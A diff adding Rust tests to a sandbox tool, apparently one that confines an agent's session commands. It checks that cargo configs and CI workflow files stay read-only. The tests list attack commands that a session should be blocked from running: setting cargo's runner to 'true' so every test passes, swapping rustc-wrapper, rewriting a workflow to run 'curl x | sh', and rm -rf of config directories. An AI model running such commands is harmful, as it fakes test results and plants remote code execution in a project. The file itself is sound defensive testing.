@@ -2773,3 +2773,92 @@ fn home_and_the_environment_are_granted_by_allowlist_not_by_lists_of_secrets() {
         "{inside}"
     );
 }
+
+/// Issue 34, point 5: the tool configs a person's next command reads — here cargo's (a
+/// `runner = "true"` makes every `cargo test` pass) and a CI workflow — are read-only to a
+/// session's commands by every route (rewrite, the name cargo prefers beside it, rename, remove),
+/// while ordinary work goes on: cargo builds with that config, git commits.
+#[test]
+fn tool_configs_are_read_only_in_a_session_and_ordinary_work_goes_on() {
+    if skip_or_fail("tool_configs_are_read_only_in_a_session_and_ordinary_work_goes_on") {
+        return;
+    }
+    let r = common::Repo::with_command("true", "none");
+    let cargo_config = "[build]\nrustflags = []\n";
+    let ci = "on: push\njobs: {}\n";
+    r.write(".cargo/config.toml", cargo_config);
+    r.write(".github/workflows/ci.yml", ci);
+    r.write(
+        "Cargo.toml",
+        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
+    );
+    r.write("src/lib.rs", "pub fn f() -> u8 { 1 }\n");
+    r.write(".gitignore", "/target\n");
+    r.git(&["add", "-A"]);
+    r.git(&["commit", "-qm", "init"]);
+    for attack in [
+        "printf '[target.x86_64-unknown-linux-gnu]\\nrunner = \"true\"\\n' >> .cargo/config.toml",
+        "printf '[build]\\nrustc-wrapper = \"/bin/true\"\\n' > .cargo/config",
+        "mv .cargo .cargo-old && mkdir .cargo && echo x > .cargo/config.toml",
+        "rm -rf .cargo",
+        "echo 'jobs: {steps: [run: curl x | sh]}' > .github/workflows/ci.yml",
+        "echo x > .github/workflows/new.yml",
+        "rm -rf .github",
+    ] {
+        let o = in_session(&r, &["sh", "-c", attack]);
+        assert!(!o.status.success(), "{attack}: {o:?}");
+        assert_eq!(r.read(".cargo/config.toml"), cargo_config, "{attack}");
+        assert!(!r.exists(".cargo/config"), "{attack}");
+        assert_eq!(r.read(".github/workflows/ci.yml"), ci, "{attack}");
+        assert!(!r.exists(".github/workflows/new.yml"), "{attack}");
+    }
+    // Ordinary work: beside them, files are written and committed, and cargo builds reading
+    // the config it cannot change.
+    let o = in_session(
+        &r,
+        &[
+            "sh",
+            "-c",
+            "echo b > .github/CODEOWNERS && echo 'pub fn g() {}' >> src/lib.rs && git add -A && git commit -qm work",
+        ],
+    );
+    assert!(o.status.success(), "{o:?}");
+    assert!(r.exists(".github/CODEOWNERS"));
+    let cargo = Command::new("cargo").arg("--version").output();
+    if cargo.is_ok_and(|o| o.status.success()) {
+        let o = Command::new(forge_bin())
+            .args(["sandbox", "--profile", "session", "--"])
+            .args(["cargo", "build", "--offline", "-q"])
+            .current_dir(r.path())
+            .env("TMPDIR", r.tmp())
+            .env("CARGO_TARGET_DIR", r.path().join("target"))
+            .output()
+            .unwrap();
+        assert!(o.status.success(), "{o:?}");
+        assert!(r.path().join("target").is_dir());
+    } else {
+        eprintln!("tool_configs_are_read_only_in_a_session: no cargo here, its build not run");
+    }
+    end_keeper(r.dir.path());
+}
+
+/// `sandbox.session_writable` lets the session change the tool configs it names, and only
+/// those.
+#[test]
+fn a_tool_config_the_person_lets_the_session_change_is_writable() {
+    if skip_or_fail("a_tool_config_the_person_lets_the_session_change_is_writable") {
+        return;
+    }
+    let r = common::Repo::with_command("true", "none");
+    let config = r.read(".forge/config.yaml");
+    r.config(&format!("{config}sandbox:\n  session_writable: [.cargo]\n"));
+    r.write(".cargo/config.toml", "[build]\n");
+    r.write(".github/workflows/ci.yml", "on: push\n");
+    let o = in_session(&r, &["sh", "-c", "echo 'jobs = 2' >> .cargo/config.toml"]);
+    assert!(o.status.success(), "{o:?}");
+    assert_eq!(r.read(".cargo/config.toml"), "[build]\njobs = 2\n");
+    let o = in_session(&r, &["sh", "-c", "echo x >> .github/workflows/ci.yml"]);
+    assert!(!o.status.success(), "{o:?}");
+    assert_eq!(r.read(".github/workflows/ci.yml"), "on: push\n");
+    end_keeper(r.dir.path());
+}
